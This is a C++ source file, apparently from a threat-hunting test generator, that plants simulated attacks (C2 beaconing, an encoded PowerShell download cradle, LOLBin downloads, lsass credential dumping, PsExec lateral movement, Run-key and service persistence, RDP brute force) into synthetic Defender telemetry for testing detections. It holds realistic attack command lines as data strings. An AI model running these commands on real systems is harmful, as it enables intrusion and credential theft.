// The planted attacks. Each scenario picks its victims from the fleet with its own random stream,
// writes the rows Defender would record, and describes them in the manifest: the entities (device,
// account, process, command line, remote address, times) and, per table, how many rows a column
// match selects. Planted processes hang off real background instances (explorer, cmd, services,
// lsass), so joins on process ids reach the background's rows.
#include "tools/gen-events/scenarios.h"

#include <cstdio>
#include <set>

#include "tools/gen-events/background.h"

namespace huntc::gen {

using catalog::Signer;

namespace {

constexpr const char* kSys32 = R"(C:\Windows\System32)";
constexpr const char* kWin = "Microsoft® Windows® Operating System";
constexpr const char* kWinVer = "10.0.26100.4946";
constexpr const char* kSysinternals = "Sysinternals - www.sysinternals.com";

catalog::Process Spec(const char* name, const char* dir, const char* company, const char* product,
                      const char* version, const char* description, int64_t size, Signer signer) {
  return {{name}, dir, company, product, version, name, name, description, size, catalog::Life::kShort,
          {}, "", catalog::Account::kUser, signer, {}};
}

// A column and its JSON value, as a manifest's "match" lists them.
struct Match {
  std::string column, json;
};
Match M(std::string column, std::string_view value) { return {std::move(column), JsonQuote(value)}; }
Match M(std::string column, int64_t value) { return {std::move(column), std::to_string(value)}; }

class Planter {
 public:
  Planter(World& w, const GenOptions& opt, const std::array<bool, kTableCount>& selected, Planted& out)
      : w_(w), selected_(selected), p_(out), seed_(opt.seed) {}

  void Plant(Scenario s) {
    rng_ = Rng(Mix(seed_ ^ (0x5ce0a000 + static_cast<uint64_t>(s))));
    json_.clear();
    expects_.clear();
    switch (s) {
      case Scenario::kBeacon: Beacon(); break;
      case Scenario::kEncodedCradle: EncodedCradle(); break;
      case Scenario::kLolbin: Lolbin(); break;
      case Scenario::kLateralMovement: LateralMovement(); break;
      case Scenario::kRunKey: RunKey(); break;
      case Scenario::kCredentialDumping: CredentialDumping(); break;
      case Scenario::kRdpBruteForce: RdpBruteForce(); break;
      case Scenario::kUnsignedDll: UnsignedDll(); break;
      case Scenario::kNewService: NewService(); break;
      case Scenario::kForcedAuthentication: ForcedAuthentication(); break;
    }
    std::string entry = "\n    {\"scenario\": " + JsonQuote(ScenarioName(s)) + json_ + ",\n     \"expect\": [";
    for (size_t i = 0; i < expects_.size(); ++i) entry += (i ? ",\n       " : "\n       ") + expects_[i];
    entry += "\n     ]}";
    entries_.push_back(std::move(entry));
  }

  std::string Json() const {
    std::string out = "[";
    for (size_t i = 0; i < entries_.size(); ++i) out += (i ? "," : "") + entries_[i];
    return out + (entries_.empty() ? "]" : "\n  ]");
  }

  void SortRows() {
    for (std::vector<Record>& rows : p_.rows)
      std::stable_sort(rows.begin(), rows.end(),
                       [](const Record& a, const Record& b) { return a.ingested < b.ingested; });
  }

 private:
  // --- The scenarios -------------------------------------------------------------------------

  // A process reaching one public address every `period` ± jitter for days: single connections at
  // first, then hourly aggregated reports.
  void Beacon() {
    const Device& d = Workstation();
    const int64_t span = std::min<int64_t>(3 * kTicksPerDay, (w_.now - w_.activity_start) * 4 / 5);
    const int64_t start = w_.now - span - kTicksPerHour + rng_.Between(0, 3'600'000) * (kTicksPerSecond / 1000);
    const ProcView& explorer = Existing(d, "explorer.exe", start - 2 * kTicksPerMinute);
    const ProcessEntry& implant =
        Entry(Spec("devsync.exe", R"(C:\ProgramData\Microsoft\DeviceSync)", "", "", "", "", 74'240, Signer::kWindows),
              false);
    const ProcView& beacon = Spawn(d, implant, R"("C:\ProgramData\Microsoft\DeviceSync\devsync.exe" -k netsvc)",
                                   explorer, start - 2 * kTicksPerMinute);
    const std::string_view ip = FreshIp();
    const std::string_view url = "cdn.devsync-telemetry.net";
    const int64_t period = 300 * kTicksPerSecond, jitter = 30 * kTicksPerSecond;
    std::vector<int64_t> times;
    for (int64_t t = start; t < w_.now - kTicksPerHour; t += period)
      times.push_back(t + rng_.Between(-jitter, jitter));
    const size_t single = times.size() / 3;
    for (size_t k = 0; k < single; ++k) Connection(d, beacon, times[k], ip, 443, url, "ConnectionSuccess");
    int64_t aggregated_rows = 0, aggregated_events = 0;
    for (size_t k = single; k < times.size();) {
      const int64_t hour = times[k] / kTicksPerHour;
      size_t end = k;
      while (end < times.size() && times[end] / kTicksPerHour == hour) ++end;
      Record& r = Connection(d, beacon, times[end - 1], ip, 443, url, "ConnectionSuccessAggregatedReport");
      std::string extra = "{\"direction\":\"Out\",\"uniqueEventsAggregated\":" + std::to_string(end - k) +
                          ",\"firstSeenAggregated\":\"" + FormatDateTime(times[k]) + "\",\"lastSeenAggregated\":\"" +
                          FormatDateTime(times[end - 1]) + "\"}";
      r.additional = Keep(std::move(extra));
      ++aggregated_rows;
      aggregated_events += static_cast<int64_t>(end - k);
      k = end;
    }
    Describe("T1071.001", "A process contacts one public address every 5 minutes, +/- 30 seconds, for days.",
             "DeviceNetworkEvents: one InitiatingProcessId on one device reaching one public RemoteIP at regular "
             "intervals (coefficient of variation of the gaps below 0.25, at least 20 connections), single and "
             "aggregated",
             d, beacon, ip, url, times.front(), times.back());
    json_ += ",\n     \"period_seconds\": 300, \"jitter_seconds\": 30, \"connections\": " +
             std::to_string(times.size()) + ", \"aggregated_connections\": " + std::to_string(aggregated_events);
    Expect(Table::kDeviceNetworkEvents, static_cast<int64_t>(single), times.front(), times[single - 1],
           {M("DeviceName", d.name), M("InitiatingProcessId", beacon.pid), M("RemoteIP", ip),
            M("ActionType", "ConnectionSuccess")});
    Expect(Table::kDeviceNetworkEvents, aggregated_rows, times[single], times.back(),
           {M("DeviceName", d.name), M("InitiatingProcessId", beacon.pid), M("RemoteIP", ip),
            M("ActionType", "ConnectionSuccessAggregatedReport")});
    ExpectProcess(d, beacon);
  }

  // Word starts PowerShell with an encoded download cradle, which fetches a script.
  void EncodedCradle() {
    const Device& d = Workstation();
    const int64_t t = At(0.35, 10, 17);
    const ProcView& word = Existing(d, "WINWORD.EXE", t);
    const std::string_view ip = FreshIp();
    const std::string url = "https://cdn-office-templates.com/wp/news.ps1";
    const std::string script = "IEX (New-Object Net.WebClient).DownloadString('" + url + "')";
    const std::string cmdline = R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc )" +
                                EncodedCommand(script);
    const ProcView& ps = Spawn(d, w_.processes[w_.ProcessIndex("powershell.exe")], cmdline, word, t);
    Connection(d, ps, t + 3 * kTicksPerSecond, ip, 443, "cdn-office-templates.com", "ConnectionSuccess");
    Record& e = Row(Table::kDeviceEvents, t + 2 * kTicksPerSecond, d, "PowerShellCommand");
    e.init = &ps;
    e.account = ps.account;
    e.logon_id = ps.logon_id;
    e.additional = R"({"Command":"Invoke-Expression"})";
    Describe("T1059.001, T1105", "Word starts PowerShell with -enc; the script downloads and runs another.",
             "DeviceProcessEvents: powershell with -enc/-EncodedCommand whose UTF-16LE script holds "
             "DownloadString, DownloadFile, IEX or Invoke-Expression",
             d, ps, ip, "cdn-office-templates.com", t, t + 3 * kTicksPerSecond);
    json_ += ",\n     \"decoded_script\": " + JsonQuote(script);
    ExpectProcess(d, ps);
    Expect(Table::kDeviceNetworkEvents, 1, t, t + 3 * kTicksPerSecond,
           {M("DeviceName", d.name), M("InitiatingProcessId", ps.pid), M("RemoteIP", ip)});
    Expect(Table::kDeviceEvents, 1, t, t + 2 * kTicksPerSecond,
           {M("DeviceName", d.name), M("InitiatingProcessId", ps.pid), M("ActionType", "PowerShellCommand")});
  }

  // A LOLBin fetches a payload from the internet; within minutes the payload runs and looks around.
  void Lolbin() {
    const Device& d = Workstation();
    const int64_t t = At(0.55, 14, 3);
    const std::string_view ip = FreshIp();
    const std::string base = "http://" + std::string(ip);
    const ProcView& cmd = Existing(d, "cmd.exe", t);
    const int which = static_cast<int>(rng_.Below(4));
    const ProcessEntry* bin;
    std::string cmdline;
    switch (which) {
      case 0:
        bin = &Entry(Spec("certutil.exe", kSys32, "Microsoft Corporation", kWin, kWinVer, "CertUtil.exe", 1'626'112,
                          Signer::kWindows),
                     true);
        cmdline = "certutil.exe -urlcache -split -f " + base + "/u/upd.exe C:\\Users\\Public\\upd.exe";
        break;
      case 1:
        bin = &Entry(Spec("regsvr32.exe", kSys32, "Microsoft Corporation", kWin, kWinVer,
                          "Microsoft(C) Register Server", 25'600, Signer::kWindows),
                     true);
        cmdline = "regsvr32.exe /s /n /u /i:" + base + "/s/upd.sct scrobj.dll";
        break;
      case 2:
        bin = &w_.processes[w_.ProcessIndex("mshta.exe")];
        cmdline = "mshta.exe " + base + "/s/upd.hta";
        break;
      default:
        bin = &w_.processes[w_.ProcessIndex("rundll32.exe")];
        cmdline = R"(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:)" +
                  base + R"(/s/upd.sct"))";
        break;
    }
    const ProcView& lolbin = Spawn(d, *bin, cmdline, cmd, t);
    Connection(d, lolbin, t + 2 * kTicksPerSecond, ip, 80, "", "ConnectionSuccess");
    const ProcessEntry& payload =
        Entry(Spec("upd.exe", R"(C:\Users\Public)", "", "", "", "", 311'296, Signer::kWindows), false);
    Record& f = Row(Table::kDeviceFileEvents, t + 4 * kTicksPerSecond, d, "FileCreated");
    f.init = &lolbin;
    FileOf(f, payload, R"(C:\Users\Public\upd.exe)");
    f.origin_url = Keep(base + "/u/upd.exe");
    f.origin_ip = ip;
    // certutil only downloads; the shell that ran it starts the payload. Script hosts start it themselves.
    const ProcView& starter = which == 0 ? cmd : lolbin;
    const ProcView& run = Spawn(d, payload, R"("C:\Users\Public\upd.exe")", starter, t + 90 * kTicksPerSecond);
    const ProcessEntry& whoami = Entry(
        Spec("whoami.exe", kSys32, "Microsoft Corporation", kWin, kWinVer, "whoami - displays logged on user information",
             78'848, Signer::kWindows),
        true);
    const ProcessEntry& net = Entry(
        Spec("net.exe", kSys32, "Microsoft Corporation", kWin, kWinVer, "Net Command", 57'344, Signer::kWindows), true);
    const ProcView& w1 = Spawn(d, whoami, "whoami.exe /all", run, t + 120 * kTicksPerSecond);
    const ProcView& w2 = Spawn(d, net, R"(net.exe group "domain admins" /domain)", run, t + 150 * kTicksPerSecond);
    Describe("T1218, T1105", "A signed Windows binary downloads from a public address; the payload runs minutes later.",
             "DeviceNetworkEvents: rundll32, mshta, regsvr32 or certutil connecting to a public RemoteIP, followed "
             "within 10 minutes by DeviceProcessEvents on the same device",
             d, lolbin, ip, "", t, t + 150 * kTicksPerSecond);
    json_ += ",\n     \"lolbin\": " + JsonQuote(bin->names[0]) + ", \"payload\": " + JsonQuote(run.folder) +
             ", \"payload_name\": " + JsonQuote(run.file_name) + ",\n     \"discovery\": [" + JsonQuote(w1.file_name) +
             ", " + JsonQuote(w2.file_name) + "]";
    ExpectProcess(d, lolbin);
    Expect(Table::kDeviceNetworkEvents, 1, t, t + 2 * kTicksPerSecond,
           {M("DeviceName", d.name), M("InitiatingProcessId", lolbin.pid), M("RemoteIP", ip)});
    Expect(Table::kDeviceFileEvents, 1, t, t + 4 * kTicksPerSecond,
           {M("DeviceName", d.name), M("FolderPath", R"(C:\Users\Public\upd.exe)")});
    ExpectProcess(d, run);
    ExpectProcess(d, w1);
    ExpectProcess(d, w2);
  }

  // One account logs on to four workstations over SMB (and RDP to the last) and installs PsExec's
  // service on each.
  void LateralMovement() {
    const Device& src = Workstation();
    const Account& who = *src.user;
    std::vector<const Device*> targets;
    while (targets.size() < 4) {
      const Device* t = w_.workstations[rng_.Below(w_.workstations.size())];
      if (t != &src && std::find(targets.begin(), targets.end(), t) == targets.end() && !Used(*t)) {
        targets.push_back(t);
      }
    }
    for (const Device* t : targets) used_.insert(t->index);
    const int64_t t0 = At(0.7, 11, 40);
    const ProcView& cmd = Existing(src, "cmd.exe", t0);
    const ProcessEntry& psexec = Entry(Spec("PsExec.exe", R"(C:\Users\Public\Tools)", kSysinternals,
                                            "Sysinternals PsExec", "2.43", "Execute processes remotely", 716'176,
                                            Signer::kMicrosoft),
                                       true);
    const ProcessEntry& psexesvc = Entry(Spec("PSEXESVC.exe", R"(C:\Windows)", kSysinternals, "Sysinternals PsExec",
                                              "2.43", "PsExec Service", 194'952, Signer::kMicrosoft),
                                         true);
    const ProcessEntry& cmd_entry = w_.processes[w_.ProcessIndex("cmd.exe")];
    std::string names, hosts;
    int64_t last = t0;
    for (size_t i = 0; i < targets.size(); ++i) {
      const Device& dst = *targets[i];
      const int64_t t = t0 + static_cast<int64_t>(i) * 8 * kTicksPerMinute + rng_.Between(0, kTicksPerMinute);
      const ProcView& ps = Spawn(src, psexec,
                                 R"(PsExec.exe \\)" + dst.netbios + R"( -accepteula -s cmd.exe /c "hostname & whoami")",
                                 cmd, t);
      Connection(src, ps, t + kTicksPerSecond, dst.ip, 445, "", "ConnectionSuccess").remote_ip_type = "Private";
      Record& logon = Row(Table::kDeviceLogonEvents, t + 2 * kTicksPerSecond, dst, "LogonSuccess");
      logon.init = &Existing(dst, "lsass.exe", t);
      Logon(logon, who, "Network", "NTLM", &src);
      Record& file = Row(Table::kDeviceFileEvents, t + 3 * kTicksPerSecond, dst, "FileCreated");
      file.init = &Existing(dst, "ntoskrnl.exe", t);
      FileOf(file, psexesvc, R"(C:\Windows\PSEXESVC.exe)");
      file.request_protocol = "SMB";
      file.request_ip = src.ip;
      file.request_port = rng_.Between(49152, 65535);
      file.request_account = who.name;
      file.request_domain = "CONTOSO";
      file.request_sid = who.sid;
      file.share = "ADMIN$";
      const ProcView& services = Existing(dst, "services.exe", t);
      Record& svc = Row(Table::kDeviceEvents, t + 4 * kTicksPerSecond, dst, "ServiceInstalled");
      svc.init = &services;
      svc.account = services.account;
      FileOf(svc, psexesvc, R"(C:\Windows\PSEXESVC.exe)");
      svc.additional = R"({"ServiceName":"PSEXESVC","ServiceStartType":3,"ServiceType":16,"ServiceAccount":"LocalSystem"})";
      const ProcView& service = Spawn(dst, psexesvc, R"(C:\Windows\PSEXESVC.exe)", services, t + 5 * kTicksPerSecond);
      const ProcView& shell =
          Spawn(dst, cmd_entry, R"(cmd.exe /c "hostname & whoami")", service, t + 6 * kTicksPerSecond);
      ExpectProcess(dst, service);
      ExpectProcess(dst, shell);
      Expect(Table::kDeviceFileEvents, 1, t, t + 3 * kTicksPerSecond,
             {M("DeviceName", dst.name), M("FolderPath", R"(C:\Windows\PSEXESVC.exe)"), M("RequestSourceIP", src.ip)});
      Expect(Table::kDeviceEvents, 1, t, t + 4 * kTicksPerSecond,
             {M("DeviceName", dst.name), M("ActionType", "ServiceInstalled"), M("FileName", "PSEXESVC.exe")});
      Expect(Table::kDeviceNetworkEvents, 1, t, t + kTicksPerSecond,
             {M("DeviceName", src.name), M("InitiatingProcessId", ps.pid), M("RemoteIP", dst.ip)});
      ExpectProcess(src, ps);
      if (i) {
        names += ", ";
        hosts += ", ";
      }
      names += JsonQuote(dst.name);  // appended apart: GCC 12 warns falsely (-Wrestrict) on "" + std::string
      hosts += JsonQuote(dst.netbios);
      last = t + 6 * kTicksPerSecond;
    }
    // Then an interactive look at the last one over RDP.
    const Device& rdp = *targets.back();
    const int64_t t_rdp = last + 3 * kTicksPerMinute;
    Record& logon = Row(Table::kDeviceLogonEvents, t_rdp, rdp, "LogonSuccess");
    logon.init = &Existing(rdp, "lsass.exe", t_rdp);
    Logon(logon, who, "RemoteInteractive", "Negotiate", &src);
    for (const Device* dst : targets)
      Expect(Table::kDeviceLogonEvents, dst == &rdp ? 2 : 1, t0, t_rdp,
             {M("DeviceName", dst->name), M("AccountName", who.name), M("ActionType", "LogonSuccess")});
    Describe("T1021.002, T1569.002, T1021.001",
             "One account logs on to four workstations over SMB from one workstation and installs the PsExec service "
             "on each, then opens an RDP session on the last.",
             "DeviceLogonEvents: Network or RemoteInteractive logons landing on workstations; DeviceEvents: "
             "ServiceInstalled PSEXESVC",
             src, cmd, src.ip, "", t0, t_rdp);
    json_ += ",\n     \"source_ip\": " + JsonQuote(src.ip) + ", \"targets\": [" + names + "]" +
             ",\n     \"target_hosts\": [" + hosts + "]";
  }

  // A dropper writes a Run value so that its implant starts at every logon.
  void RunKey() {
    const Device& d = Workstation();
    const int64_t t = At(0.45, 15, 22);
    const ProcView& explorer = Existing(d, "explorer.exe", t);
    const std::string downloads = R"(C:\Users\)" + d.user->name + R"(\Downloads)";
    const ProcessEntry& dropper =
        Entry(Spec("Invoice_2025_11.exe", "", "", "", "", "", 1'204'224, Signer::kWindows), false);
    const ProcView& drop = Spawn(d, dropper, "\"" + downloads + R"(\Invoice_2025_11.exe")", explorer, t,
                                 downloads + R"(\Invoice_2025_11.exe)");
    const std::string implant = R"(C:\Users\)" + d.user->name + R"(\AppData\Roaming\Microsoft\OneDriveSync\odsync.exe)";
    const ProcessEntry& odsync = Entry(Spec("odsync.exe", "", "", "", "", "", 241'664, Signer::kWindows), false);
    Record& f = Row(Table::kDeviceFileEvents, t + 5 * kTicksPerSecond, d, "FileCreated");
    f.init = &drop;
    FileOf(f, odsync, implant);
    const std::string key = R"(HKEY_CURRENT_USER\)" + d.user->sid + R"(\SOFTWARE\Microsoft\Windows\CurrentVersion\Run)";
    const std::string data = "\"" + implant + "\" /background";
    Record& r = Row(Table::kDeviceRegistryEvents, t + 6 * kTicksPerSecond, d, "RegistryValueSet");
    r.init = &drop;
    r.key = Keep(key);
    r.value_type = "String";
    r.value_name = "OneDriveSync";
    r.value_data = Keep(data);
    Describe("T1547.001", "A dropper from Downloads adds a Run value that starts its implant at logon.",
             "DeviceRegistryEvents: a value set under ...\\CurrentVersion\\Run or RunOnce", d, drop, "", "", t,
             t + 6 * kTicksPerSecond);
    json_ += ",\n     \"registry_key\": " + JsonQuote(key) + ", \"registry_value_name\": \"OneDriveSync\"" +
             ", \"registry_value_data\": " + JsonQuote(data) + ",\n     \"implant\": " + JsonQuote(implant);
    ExpectProcess(d, drop);
    Expect(Table::kDeviceRegistryEvents, 1, t, t + 6 * kTicksPerSecond,
           {M("DeviceName", d.name), M("RegistryKey", key), M("RegistryValueName", "OneDriveSync")});
    Expect(Table::kDeviceFileEvents, 1, t, t + 5 * kTicksPerSecond,
           {M("DeviceName", d.name), M("FolderPath", implant)});
  }

  // An administrator's RDP session on a server dumps lsass three ways.
  void CredentialDumping() {
    const Device* server;
    do server = w_.app_servers[rng_.Below(w_.app_servers.size())];
    while (Used(*server));
    used_.insert(server->index);
    const Device& d = *server;
    const int64_t t = At(0.8, 13, 8);
    const ProcView& cmd = Existing(d, "cmd.exe", t);
    const ProcView& lsass = Existing(d, "lsass.exe", t);
    const ProcessEntry& procdump =
        Entry(Spec("procdump64.exe", R"(C:\Users\Public\Tools)", kSysinternals, "ProcDump", "11.0",
                   "Sysinternals process dump utility", 424'352, Signer::kMicrosoft),
              true);
    const ProcessEntry& mimi = Entry(Spec("m64.exe", R"(C:\Users\Public)", "", "", "", "", 1'355'680, Signer::kWindows), false);
    const ProcessEntry& dump_file = Entry(Spec("lsass.dmp", "", "", "", "", "", 52'428'800, Signer::kWindows), false);
    const std::string lsass_pid = std::to_string(lsass.pid);
    const ProcView& pd = Spawn(d, procdump, R"(procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp)", cmd, t);
    const ProcView& rd = Spawn(d, w_.processes[w_.ProcessIndex("rundll32.exe")],
                               R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump )" + lsass_pid +
                                   R"( C:\Windows\Temp\debug.bin full)",
                               cmd, t + 4 * kTicksPerMinute);
    const ProcView& mk = Spawn(d, mimi, R"(C:\Users\Public\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit)",
                               cmd, t + 9 * kTicksPerMinute);
    for (const ProcView* p : {&pd, &rd, &mk}) {
      Record& e = Row(Table::kDeviceEvents, p->created + 2 * kTicksPerSecond, d, "OpenProcessApiCall");
      e.init = p;
      e.proc = &lsass;
      e.account = p->account;
      e.file_name = lsass.file_name;
      e.folder = lsass.folder;
      e.sha1 = lsass.entry->image.sha1;
      e.sha256 = lsass.entry->image.sha256;
      e.md5 = lsass.entry->image.md5;
      e.file_size = lsass.entry->image.size;
      e.additional = R"({"DesiredAccess":2097151})";
    }
    const char* const dumps[] = {R"(C:\Windows\Temp\lsass.dmp)", R"(C:\Windows\Temp\debug.bin)"};
    for (const auto& [p, path] : {std::pair{&pd, dumps[0]}, {&rd, dumps[1]}}) {
      Record& f = Row(Table::kDeviceFileEvents, p->created + 5 * kTicksPerSecond, d, "FileCreated");
      f.init = p;
      FileOf(f, dump_file, path);
    }
    Describe("T1003.001", "procdump, comsvcs.dll MiniDump and a mimikatz-like tool read lsass memory.",
             "DeviceProcessEvents: command lines naming lsass, MiniDump with comsvcs.dll, or sekurlsa::; DeviceEvents: "
             "OpenProcessApiCall on lsass.exe",
             d, pd, "", "", t, mk.created + 2 * kTicksPerSecond);
    json_ += ",\n     \"lsass_pid\": " + lsass_pid + ",\n     \"processes\": [" + JsonQuote(pd.file_name) + ", " +
             JsonQuote(rd.file_name) + ", " + JsonQuote(mk.file_name) + "], \"process_ids\": [" + std::to_string(pd.pid) +
             ", " + std::to_string(rd.pid) + ", " + std::to_string(mk.pid) + "]" +
             ",\n     \"dump_files\": [" + JsonQuote(dumps[0]) + ", " + JsonQuote(dumps[1]) + "]";
    for (const ProcView* p : {&pd, &rd, &mk}) ExpectProcess(d, *p);
    Expect(Table::kDeviceEvents, 3, t, mk.created + 2 * kTicksPerSecond,
           {M("DeviceName", d.name), M("ActionType", "OpenProcessApiCall"), M("FileName", "lsass.exe")});
    Expect(Table::kDeviceFileEvents, 2, t, rd.created + 5 * kTicksPerSecond,
           {M("DeviceName", d.name), M("SHA1", dump_file.image.sha1)});
  }

  // Sixty failed logons from one public address on an internet-facing server, then one success.
  void RdpBruteForce() {
    const Device* server;
    do server = w_.webs[rng_.Below(w_.webs.size())];
    while (Used(*server));
    used_.insert(server->index);
    const Device& d = *server;
    const int64_t t0 = At(0.25, 2, 12);  // at night
    const std::string_view ip = FreshIp();
    const ProcView& term = Existing(d, "svchost.exe", t0, R"(C:\Windows\System32\svchost.exe -k NetworkService -s TermService)",
                                    catalog::Account::kNetworkService);
    const ProcView& lsass = Existing(d, "lsass.exe", t0);
    static const char* const kGuesses[] = {"administrator", "admin", "user", "test", "backup", "scanner", "guest", "sql"};
    Account& local_admin = Keep(Account{d.netbios, "administrator", "S-1-5-21-1111111111-2222222222-3333333333-500", "", ""});
    constexpr int kFailures = 60;
    int64_t t = t0;
    for (int i = 0; i < kFailures; ++i) {
      t += rng_.Between(8 * kTicksPerSecond, 20 * kTicksPerSecond);
      const char* name = kGuesses[i % std::size(kGuesses)];
      Account& guess = i % std::size(kGuesses) == 0 ? local_admin : Keep(Account{d.netbios, name, "", "", ""});
      Record& r = Row(Table::kDeviceLogonEvents, t, d, "LogonFailed");
      r.init = &lsass;
      Logon(r, guess, "Network", "NTLM", nullptr);
      r.remote_ip = ip;
      r.remote_ip_type = "Public";
      r.failure_reason = &guess == &local_admin ? "InvalidUserNameOrPassword" : "UnknownUser";
      r.logon_id = -1;
      if (i % 10 == 0) Inbound(d, term, t - kTicksPerSecond, ip);
    }
    const int64_t success = t + 40 * kTicksPerSecond;
    Inbound(d, term, success - kTicksPerSecond, ip);
    Record& r = Row(Table::kDeviceLogonEvents, success, d, "LogonSuccess");
    r.init = &lsass;
    Logon(r, local_admin, "RemoteInteractive", "Negotiate", nullptr);
    r.remote_ip = ip;
    r.remote_ip_type = "Public";
    r.is_local_admin = 1;
    Describe("T1110.001", "An internet-facing server takes 60 failed logons from one public address in about "
             "15 minutes, then one RDP logon as administrator succeeds.",
             "DeviceLogonEvents: LogonFailed from a public RemoteIP (10 or more from one address), then LogonSuccess "
             "from the same address",
             d, term, ip, "", t0, success);
    json_ += ",\n     \"failed_logons\": " + std::to_string(kFailures) + ", \"success_account\": \"administrator\"";
    Expect(Table::kDeviceLogonEvents, kFailures, t0, success - 40 * kTicksPerSecond,
           {M("DeviceName", d.name), M("RemoteIP", ip), M("ActionType", "LogonFailed")});
    Expect(Table::kDeviceLogonEvents, 1, success, success,
           {M("DeviceName", d.name), M("RemoteIP", ip), M("ActionType", "LogonSuccess")});
    Expect(Table::kDeviceNetworkEvents, kFailures / 10 + 1, t0, success,
           {M("DeviceName", d.name), M("RemoteIP", ip), M("ActionType", "InboundConnectionAccepted")});
  }

  // OneDrive loads an unsigned version.dll planted next to it (DLL side-loading), each day it starts.
  void UnsignedDll() {
    const Device& d = Workstation();
    const std::string folder = R"(C:\Users\)" + d.user->name + R"(\AppData\Local\Microsoft\OneDrive)";
    const ProcessEntry& dll = Entry(Spec("version.dll", "", "", "", "", "", 98'304, Signer::kWindows), false);
    int64_t first = 0, last = 0;
    constexpr int kLoads = 3;
    for (int day = 0; day < kLoads; ++day) {
      const int64_t t = At(0.5 + 0.1 * day, 9, 5 + day);
      const ProcView& onedrive = Existing(d, "OneDrive.exe", t);
      Record& r = Row(Table::kDeviceImageLoadEvents, t, d, "ImageLoaded");
      r.init = &onedrive;
      FileOf(r, dll, folder + R"(\version.dll)");
      if (day == 0) first = t;
      last = t;
      if (day == 0)
        Describe("T1574.002", "OneDrive.exe loads an unsigned version.dll from its user-writable folder.",
                 "DeviceImageLoadEvents: a DLL loaded from a user-writable folder (C:\\Users, C:\\ProgramData) whose "
                 "SHA1 has no signed DeviceFileCertificateInfo row",
                 d, onedrive, "", "", first, first);
    }
    json_ += ",\n     \"dll\": " + JsonQuote(folder + R"(\version.dll)") + ", \"sha1\": " + JsonQuote(dll.image.sha1);
    Expect(Table::kDeviceImageLoadEvents, kLoads, first, last, {M("DeviceName", d.name), M("SHA1", dll.image.sha1)});
  }

  // An administrator's session on a server creates an auto-start service whose binary sits in
  // ProgramData, running as LocalSystem: persistence (and privilege) through the service manager.
  void NewService() {
    const Device* server;
    do server = w_.app_servers[rng_.Below(w_.app_servers.size())];
    while (Used(*server));
    used_.insert(server->index);
    const Device& d = *server;
    const int64_t t = At(0.6, 16, 41);
    const ProcView& cmd = Existing(d, "cmd.exe", t);
    const ProcView& services = Existing(d, "services.exe", t);
    const std::string binary = R"(C:\ProgramData\WinSvcHost\svcupdate.exe)";
    const char* const name = "WinHostUpdate";
    const ProcessEntry& sc = Entry(Spec("sc.exe", kSys32, "Microsoft Corporation", kWin, kWinVer,
                                        "Service Control Manager Configuration Tool", 71'168, Signer::kWindows),
                                   true);
    const ProcessEntry& implant = Entry(Spec("svcupdate.exe", "", "", "", "", "", 188'416, Signer::kWindows), false);
    const ProcView& create = Spawn(d, sc,
                                   std::string("sc.exe create ") + name + " binPath= \"" + binary +
                                       "\" start= auto obj= LocalSystem DisplayName= \"Windows Host Update\"",
                                   cmd, t);
    const std::string key = std::string(R"(HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\)") + name;
    Record& r = Row(Table::kDeviceRegistryEvents, t + kTicksPerSecond, d, "RegistryValueSet");
    r.init = &services;
    r.key = Keep(key);
    r.value_type = "ExpandString";
    r.value_name = "ImagePath";
    r.value_data = Keep("\"" + binary + "\"");
    Record& svc = Row(Table::kDeviceEvents, t + kTicksPerSecond, d, "ServiceInstalled");
    svc.init = &services;
    svc.account = services.account;
    FileOf(svc, implant, binary);
    svc.additional = Keep(std::string(R"({"ServiceName":")") + name +
                          R"(","ServiceStartType":2,"ServiceType":16,"ServiceAccount":"LocalSystem"})");
    const ProcView& run = Spawn(d, implant, "\"" + binary + "\"", services, t + 20 * kTicksPerSecond, binary);
    Describe("T1543.003", "sc.exe creates an auto-start LocalSystem service whose binary lies in ProgramData.",
             "DeviceEvents: ServiceInstalled whose file lies in a user-writable folder (C:\\ProgramData, C:\\Users, "
             "Temp); DeviceProcessEvents: sc.exe create with such a binPath",
             d, create, "", "", t, t + 20 * kTicksPerSecond);
    json_ += ",\n     \"service_name\": " + JsonQuote(name) + ", \"service_binary\": " + JsonQuote(binary) +
             ", \"service_file\": " + JsonQuote(run.file_name);
    ExpectProcess(d, create);
    ExpectProcess(d, run);
    Expect(Table::kDeviceEvents, 1, t, t + kTicksPerSecond,
           {M("DeviceName", d.name), M("ActionType", "ServiceInstalled"), M("FileName", run.file_name)});
    Expect(Table::kDeviceRegistryEvents, 1, t, t + kTicksPerSecond,
           {M("DeviceName", d.name), M("RegistryKey", key), M("RegistryValueName", "ImagePath")});
  }

  // A document's UNC link makes a workstation's SMB client reach a public address on port 445,
  // sending the user's NTLM credentials to it; late in the window, so that rules looking back a day
  // see it.
  void ForcedAuthentication() {
    const Device& d = Workstation();
    const int64_t t = At(0.99, 9, 12);
    const std::string_view ip = FreshIp();
    const ProcView& kernel = Existing(d, "ntoskrnl.exe", t);
    Connection(d, kernel, t, ip, 445, "", "ConnectionSuccess");
    Describe("T1187", "A workstation's SMB client connects to a public address on port 445 (a UNC link in a document).",
             "DeviceNetworkEvents: a successful connection to port 445, 139 or 3389 on a public RemoteIP", d, kernel, ip,
             "", t, t);
    Expect(Table::kDeviceNetworkEvents, 1, t, t, {M("DeviceName", d.name), M("RemoteIP", ip), M("RemotePort", 445)});
  }

  // --- Helpers -------------------------------------------------------------------------------

  std::string_view Keep(std::string s) {
    p_.strings.push_back(std::move(s));
    return p_.strings.back();
  }
  Account& Keep(Account a) {
    p_.accounts.push_back(std::move(a));
    return p_.accounts.back();
  }

  bool Used(const Device& d) const { return used_.count(d.index) > 0; }

  // A workstation no other scenario of this run has used.
  const Device& Workstation() {
    const Device* d;
    do d = w_.workstations[rng_.Below(w_.workstations.size())];
    while (Used(*d));
    used_.insert(d->index);
    return *d;
  }

  // A time within the minute hh:mm UTC of day `fraction` of the window, inside the window.
  int64_t At(double fraction, int hour, int minute) {
    const int64_t days = (w_.now - w_.start) / kTicksPerDay;
    const int64_t day = std::min<int64_t>(days - 1, static_cast<int64_t>(fraction * static_cast<double>(days)));
    const int64_t t = w_.start + day * kTicksPerDay + hour * kTicksPerHour + minute * kTicksPerMinute +
                      rng_.Between(0, kTicksPerMinute - 1);
